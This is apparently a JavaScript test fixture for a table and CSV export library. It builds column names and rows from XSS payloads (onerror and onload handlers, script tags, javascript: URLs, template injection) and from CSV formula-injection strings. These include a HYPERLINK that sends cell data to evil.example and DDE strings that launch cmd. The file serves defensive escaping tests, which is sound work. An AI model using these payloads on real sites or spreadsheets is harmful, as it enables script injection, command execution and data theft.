// Jeu de données hostile: every text is an HTML / script / template payload that sets
// `window.__xss = true` if it is ever run as HTML or code. Tests assert it stays false.
import { buildTable } from '../table.mjs';
import { toCsv } from '../csv.mjs';

export const XSS = {
  img: '<img src=x onerror="window.__xss=true">',
  svg: '<svg onload=window.__xss=true>',
  script: '<script>window.__xss=true</script>',
  attr: '"><img src=x onerror=window.__xss=true>',
  js: 'javascript:window.__xss=true//',
  template: "${window.__xss=true}{{constructor.constructor('window.__xss=true')()}}",
  code: "');window.__xss=true;('",
};

/** What a spreadsheet would run when it opens a CSV download (OWASP « CSV injection »). */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', "-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];

// PostgreSQL column names stay under 63 bytes
export const HOSTILE_COLUMNS = [
  { name: `région ${XSS.img}`, type: 'string', format: 'string' },
  { name: `nom ${XSS.svg}`, type: 'string', format: 'string' },
  { name: `annee${XSS.code}`, type: 'int', format: 'year' },
  { name: `valeur ${XSS.attr}`, type: 'int', format: 'int' },
  { name: 'latitude<b onmouseover=window.__xss=true>', type: 'float', format: 'latitude_wgs' },
  { name: 'longitude<i onfocus=window.__xss=true>', type: 'float', format: 'longitude_wgs' },
  { name: `lien ${XSS.script}`, type: 'string', format: 'url' },
  { name: "datum['x'] + (window.__xss=true)", type: 'string', format: 'string' },
  { name: '=HYPERLINK("http://evil.example")', type: 'string', format: 'string' },
];

const CATEGORIES = [XSS.img, XSS.svg, XSS.script, XSS.attr, `Île-de-France ${XSS.template}`];
const POINTS = [[48.857, 2.352], [45.764, 4.836], [43.296, 5.37], [44.838, -0.579], [50.629, 3.057]];

export function hostileRows() {
  const rows = [];
  for (let i = 0; i < 40; i++) {
    const [lat, lon] = POINTS[i % POINTS.length];
    rows.push([CATEGORIES[i % CATEGORIES.length], `${XSS.svg} musée ${i + 1} ${XSS.code}`, 2019 + (i % 5),
      100 * (i + 1), lat, lon, i % 2 ? XSS.js : `https://example.org/?q=${XSS.attr}`, `${XSS.template} ${i}`, FORMULAS[i % FORMULAS.length]]);
  }
  return rows;
}

export const hostileTable = () => buildTable(HOSTILE_COLUMNS, hostileRows());
export const hostileCsv = () => Buffer.from(toCsv(HOSTILE_COLUMNS.map((c) => c.name), hostileRows()), 'utf8');
